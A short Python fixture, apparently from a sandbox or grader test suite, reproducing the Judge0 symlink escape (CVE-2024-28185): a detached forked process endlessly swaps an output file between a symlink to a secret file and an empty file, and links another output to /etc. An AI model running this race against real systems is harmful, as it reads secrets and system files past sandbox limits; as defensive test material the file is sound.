"""Swaps its artefact for a link to a secret, again and again (Judge0, CVE-2024-28185). Must: be followed never.

Ends: finished
Stopped by: bytes are taken after death, by descriptor
"""

import os
import time

os.chdir("/work/out")
if os.fork() == 0:
    os.setsid()
    while True:
        for make in (lambda: os.symlink(os.environ["HOSTS_FILE"], "new"), lambda: open("new", "w").close()):
            make()
            os.rename("new", "rows.csv")
os.symlink("/etc", "model.json")
time.sleep(0.5)
